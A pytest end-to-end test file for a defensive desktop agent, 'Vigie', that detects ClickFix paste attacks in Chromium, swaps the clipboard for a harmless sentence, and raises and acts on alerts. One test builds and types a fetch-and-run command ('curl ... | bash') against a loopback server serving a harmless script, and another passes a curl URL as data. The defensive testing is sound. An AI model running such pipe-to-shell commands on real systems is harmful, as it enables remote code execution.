"""ClickFix end to end on a real X11 desktop with real Chromium: a page of ours puts a
PowerShell-looking command in the clipboard on a click; the agent writes a ``clickfix``
event, the clipboard then holds the harmless sentence (read back with ``xclip``), and
the alert names the paste attack (read off the screen with Tesseract). Copying a recipe
or a URL from the same page gives nothing. Then a real terminal (xterm): it coming to
the front repeats the warning, and the command typed into it is a ``clickfix_paste``
risky context (its ``curl`` is a real process, talking to a slow server on loopback).

Run with its own display: VIGIE_TEST_DISPLAY_NUM=103 pytest tests/test_clickfix_e2e.py
"""
from __future__ import annotations

import http.server
import os
import shutil
import subprocess
import tempfile
import threading
import time
import urllib.parse
from pathlib import Path

import pytest

from agent import events, platform
from agent.app import Agent
from agent.config import Settings
from agent.respond.evidence import store as evidence
from tests.chromium import Browser, executable as chromium_exe
from tests.waiting import wait_event, wait_for

pytestmark = [pytest.mark.desktop, pytest.mark.chromium]
PAGE = Path(__file__).resolve().parent / "pages" / "clickfix_captcha.html"
HARMLESS = "Vigie removed a dangerous command that a web page copied here."
# where the page's three bands are, in the 900x700 window (anchored to the page's bottom)
VERIFY, TEXT, URL = (450, 380), (450, 510), (450, 640)


def xclip_out() -> str:
    return subprocess.run(["xclip", "-o", "-selection", "clipboard"], capture_output=True, text=True,
                          timeout=10).stdout


def xdotool(*args) -> str:
    return subprocess.run(["xdotool", *args], capture_output=True, text=True, timeout=30).stdout


def find_window(name: str, timeout: float = 60.0) -> str:
    found = wait_for(lambda: xdotool("search", "--onlyvisible", "--name", name).split(), timeout, 0.2)
    assert found, f"no window named {name!r}"
    return found[0]


@pytest.fixture
def page(desktop):
    """open(query) → the Chromium window id showing the ClickFix page."""
    exe = chromium_exe()
    if not exe or not shutil.which("xclip"):
        pytest.skip("Chromium and xclip are needed (scripts/setup.sh --test)")
    b = Browser(exe)                                   # a new profile for each page

    def open_page(query: str = "") -> str:
        b.start("--window-size=900,700", "--window-position=0,0", PAGE.as_uri() + query)
        return find_window("Verify you are human")

    yield open_page
    b.stop()


def click(wid: str, at: tuple[int, int]) -> None:
    xdotool("windowactivate", "--sync", wid)
    xdotool("mousemove", "--window", wid, str(at[0]), str(at[1]), "click", "1")


def copy_until(wid: str, at, done, tries: int = 5) -> bool:
    """Click a band until ``done()`` (the very first click may land before the page
    takes clicks); what is tested is what follows."""
    for _ in range(tries):
        click(wid, at)
        if wait_for(done, 6.0):
            return True
    return False


def make_agent(responder=None, language="en"):
    settings = Settings(language=language, speak=False)
    a = Agent(settings, [], responder=responder, downloads_dir=Path(tempfile.mkdtemp()))
    a.start()
    guard = next(t for t in a._threads if t.name == "vigie-clipboard")
    assert guard.ready.wait(30)
    return a


@pytest.fixture
def agent_factory(desktop, monkeypatch):
    monkeypatch.setenv("VIGIE_PLATFORM", "x11")
    platform.reset()
    made = []

    def make(**kw):
        a = make_agent(**kw)
        made.append(a)
        return a

    yield make
    for a in made:
        a.stop()
        if a.responder is not None:
            a.responder.close_windows()
    platform.reset()


def screen_text(lang: str = "eng") -> str:
    """What Tesseract reads on the whole screen, lower case, one space between words."""
    import mss
    import pytesseract
    from PIL import Image
    with mss.MSS() as m:
        s = m.grab(m.monitors[1])
    text = pytesseract.image_to_string(Image.frombytes("RGB", s.size, s.rgb), lang=lang)
    return " ".join(text.lower().split())


@pytest.mark.parametrize("query", ["", "?method=exec"], ids=["writeText", "execCommand"])
def test_page_copying_a_command_is_stopped_and_alerted(agent_factory, page, query):
    from agent.respond.responder import Responder
    a = agent_factory(responder=Responder(Settings(language="en", speak=False)))
    wid = page(query)
    assert copy_until(wid, VERIFY, lambda: any(e["type"] == "clickfix" for e in events.read()))
    ev = wait_event(lambda e: e["type"] == "clickfix")
    assert ev["command"].startswith("powershell -w hidden") and ev["browser"] == "chromium"
    assert ev["process"].startswith("chromium") and ev["replaced"] is True
    assert "Verify you are human" in ev["title"] and "execute" in ev["signals"]
    assert wait_for(lambda: xclip_out() == HARMLESS, 10), xclip_out()
    shown = wait_event(lambda e: e["type"] == "alert_shown" and e.get("kind") == "clickfix")
    folder = evidence.find(shown["incident"]).path
    assert (folder / "command.txt").read_text("utf-8") == ev["command"] and evidence.verify(folder) == []
    # the alert on screen names the paste attack
    assert wait_for(lambda: "never paste" in screen_text(), 30)
    assert a.state == "alert"


def test_recipe_and_url_from_the_same_page_give_nothing(agent_factory, page):
    agent_factory()
    wid = page()
    assert copy_until(wid, TEXT, lambda: xclip_out().startswith("Apple pie"))
    assert copy_until(wid, URL, lambda: xclip_out().startswith("https://www.example.org/"))
    assert xclip_out().startswith("https://www.example.org/recipes")     # left as it is
    # the guard takes the copies in order: once the command's event is there, the two
    # before it have been looked at and left alone
    assert copy_until(wid, VERIFY, lambda: any(e["type"] == "clickfix" for e in events.read()))
    assert [e["type"] for e in events.read()].count("clickfix") == 1


class SlowScript(http.server.BaseHTTPRequestHandler):
    """A download that takes a few seconds (as real ones do), then a harmless script."""

    def do_GET(self):  # noqa: N802
        time.sleep(4)
        body = b"echo checked\n"
        try:
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
        except OSError:
            pass            # the terminal was closed meanwhile

    def log_message(self, *args):
        pass


def test_terminal_then_the_command_run_in_it(agent_factory, page):
    if not shutil.which("xterm"):
        pytest.skip("xterm is not installed (scripts/setup.sh --test)")
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), SlowScript)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    command = f"curl -s http://127.0.0.1:{server.server_port}/check.sh | bash"
    agent_factory()
    wid = page("?command=" + urllib.parse.quote(command))
    term = None
    try:
        assert copy_until(wid, VERIFY, lambda: any(e["type"] == "clickfix" for e in events.read()))
        term = subprocess.Popen(["xterm", "-title", "vigie-terminal", "-e", "bash", "--norc"],
                                env=dict(os.environ, SHELL="/bin/bash"))
        twid = find_window("vigie-terminal")
        xdotool("windowactivate", "--sync", twid)
        rep = wait_event(lambda e: e["type"] == "clickfix_repeat")
        assert rep["place"] == "terminal" and rep["window_process"] == "xterm" and rep["command"] == command
        # the person types the command by hand (pasting would only give the harmless sentence)
        xdotool("windowactivate", "--sync", twid)
        xdotool("type", "--delay", "20", command + "\n")
        risky = wait_event(lambda e: e["type"] == "risky_context" and e.get("kind") == "clickfix_paste")
        assert risky["name"] == "curl" and risky["launcher"] == "xterm"
        assert f"127.0.0.1:{server.server_port}/check.sh" in risky["cmdline"]
    finally:
        if term is not None:
            term.kill()
            term.wait()
        server.shutdown()


class Recorder:
    """Stands for the helper notifier (another module): records what it is given."""

    def __init__(self):
        self.calls = []

    def notify(self, kind, data, attachments=()):
        self.calls.append((kind, data, list(attachments)))


def test_command_run_alert_stops_it_in_french(desktop, tmp_path):
    """on_risky_context("clickfix_paste"): the French alert says the command was run and
    its "Arrêter la commande" button ends the real process; the helper is told."""
    from agent.respond.responder import Responder
    notifier = Recorder()
    r = Responder(Settings(language="fr", speak=False), notifier)
    victim = subprocess.Popen(["sleep", "300"])
    try:
        incident = r.on_risky_context("clickfix_paste", {"pid": victim.pid, "name": "curl",
                                                         "cmdline": "curl -s http://192.0.2.1/x", "launcher": "xterm"})
        assert incident is not None and evidence.verify(incident) == []
        assert notifier.calls[0][0] == "risky_context" and notifier.calls[0][1]["kind"] == "clickfix_paste"
        gui = r.processes[-1]
        shown = gui.wait_for("shown", 30)
        assert shown and list(shown["buttons"])[0] == "close_tool"
        # "la commande ... vous a demandé de coller vient d'être lancée"
        assert wait_for(lambda: {"commande", "coller"} <= set(screen_text("fra").split()), 30)
        x, y, w, h = shown["buttons"]["close_tool"]
        xdotool("mousemove", str(x + w // 2), str(y + h // 2), "click", "1")
        assert wait_for(lambda: victim.poll() is not None, 20), "the command was stopped"
        act = wait_event(lambda e: e["type"] == "alert_action" and e.get("action") == "close_tool")
        assert act["ok"] is True
    finally:
        victim.kill()
        victim.wait()
        r.close_windows()

